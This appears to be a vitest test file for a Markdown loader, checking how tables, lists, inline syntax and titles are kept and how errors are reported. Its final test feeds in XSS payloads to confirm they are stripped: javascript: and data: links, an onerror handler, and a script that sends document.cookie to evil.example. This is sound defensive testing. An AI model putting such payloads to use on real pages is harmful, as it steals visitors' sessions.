import { describe, expect, it } from 'vitest';
import { parseBlocks, toPlainText } from '../../src/text/markdown.ts';
import { KefuError } from '../../src/errors/index.ts';
import { loadMarkdownText } from './markdown.ts';

const load = (text: string, path = '/docs/guide.md') => loadMarkdownText({ path, text });
const allText = (text: string): string => load(text).sections.map((section) => section.text).join('\n\n');

describe('Markdown loader keeps structure', () => {
  it('keeps a table with its header row, escaped pipes and inline bold', () => {
    const document = load('# Prices\n\n| Instance | vCPUs | Price |\n|---|:-:|---:|\n| cn-standard-4 | 4 | **$0.096** |\n| a\\|b | 8 | $0.19 |\n');
    expect(document.sections[0]?.text).toBe('| Instance | vCPUs | Price |\n| --- | --- | --- |\n| cn-standard-4 | 4 | **$0.096** |\n| a\\|b | 8 | $0.19 |');
    expect(toPlainText(document.sections[0]?.text ?? '', { tables: 'records' })).toBe('Instance: cn-standard-4; vCPUs: 4; Price: $0.096\nInstance: a|b; vCPUs: 8; Price: $0.19');
  });

  it('keeps lists as lists: nested by two spaces, ordered ones numbered from their start', () => {
    const text = allText('Steps:\n\n3. Pack the item\n4. Attach the label\n   * on the box\n   * not on the tape\n5. Drop it off\n\n+ Visa\n+ Alipay');
    expect(text).toBe('Steps:\n\n3. Pack the item\n4. Attach the label\n  - on the box\n  - not on the tape\n5. Drop it off\n\n- Visa\n- Alipay');
  });

  it('reduces other inline syntax to text: emphasis, code, images (alt text), strikethrough, HTML tags', () => {
    expect(allText('Use *the* `kefu` tool ~~now~~ ![a lamp](lamp.png) <span>today</span> &amp; tomorrow.')).toBe('Use the kefu tool now a lamp today & tomorrow.');
  });

  it('keeps a table inside a list item, and the list goes on after it', () => {
    const text = allText('1. Choose a plan:\n\n   | Plan | Price |\n   |---|---|\n   | Basic | $5 |\n\n2. Pay for it');
    const blocks = parseBlocks(text);
    expect(blocks.map((block) => block.kind)).toEqual(['list', 'table', 'list']);
    expect(text).toBe('1. Choose a plan:\n\n| Plan | Price |\n| --- | --- |\n| Basic | $5 |\n\n2. Pay for it');
  });

  it('reads a file that is one huge table', () => {
    const rows = Array.from({ length: 2000 }, (_, index) => `| sku-${index} | ${index % 9} | $${index}.00 |`);
    const document = load(`| SKU | Stock | Price |\n|---|---|---|\n${rows.join('\n')}\n`, '/docs/stock.md');
    const [block] = parseBlocks(document.sections[0]?.text ?? '');
    expect(block?.kind).toBe('table');
    expect(block?.kind === 'table' && block.rows.length).toBe(2000);
    expect(block?.kind === 'table' && block.header).toEqual(['SKU', 'Stock', 'Price']);
  });

  it('keeps nested lists ten levels deep', () => {
    const markdown = Array.from({ length: 10 }, (_, depth) => `${'  '.repeat(depth)}- level ${depth + 1}`).join('\n');
    const [block] = parseBlocks(allText(markdown));
    expect(block?.kind === 'list' && block.items.map((item) => item.depth)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
  });

  it('refuses a file of headings only with INGEST_NO_TEXT naming the problem', () => {
    const error = (() => {
      try {
        load('# Handbook\n\n## Leave\n\n## Benefits\n', '/docs/outline.md');
      } catch (caught) {
        return caught;
      }
      return undefined;
    })();
    expect(error).toBeInstanceOf(KefuError);
    expect((error as KefuError).code).toBe('INGEST_NO_TEXT');
    expect((error as KefuError).message).toBe('No text found: outline.md (only headings (3), no text under them)');
    expect((error as KefuError).hint).toMatch(/text that belongs under the headings/);
  });

  it('offers front matter, then the opening headings, then the file name as titles', () => {
    expect(load('---\ntitle: Refunds\n---\n# Returns\nText.').titleCandidates).toEqual([
      { text: 'Refunds', source: 'metadata' },
      { text: 'Returns', source: 'heading' },
      { text: 'guide', source: 'file-name' },
    ]);
    expect(load('Intro first.\n\n## Details\n\nMore.').titleCandidates?.map((candidate) => candidate.text)).toEqual(['Details', 'guide']);
  });
});

describe('Markdown that tries to inject', () => {
  const hostile = [
    '# Help',
    '',
    'Click [here](javascript:alert(1)) or [there](JAVASCRIPT:alert(2)) or [data](data:text/html;base64,PHNjcmlwdD4=) or [safe](https://example.com/help).',
    '',
    '<script>document.location="https://evil.example/?c="+document.cookie</script>',
    '',
    '<img src="x" onerror="alert(3)" alt="Lamp photo">',
    '',
    'Inline <script>steal()</script> text and ![pic](javascript:alert(4)) end. <a href="javascript:alert(5)">link</a>',
    '',
    '<https://example.com/auto> and [ref][r]',
    '',
    '[r]: javascript:alert(6)',
  ].join('\n');

  it('keeps no javascript: or data: link, drops script content, leaves images their alt text', () => {
    const text = allText(hostile);
    expect(text).not.toMatch(/javascript:|data:text|<script|onerror|steal\(|document\.cookie|alert/i);
    expect(text).toContain('Click here or there or data or [safe](https://example.com/help).');
    expect(text).toContain('Lamp photo');
    expect(text).toContain('Inline text and pic end. link');
    expect(text).toContain('[https://example.com/auto](https://example.com/auto) and ref');
  });
});
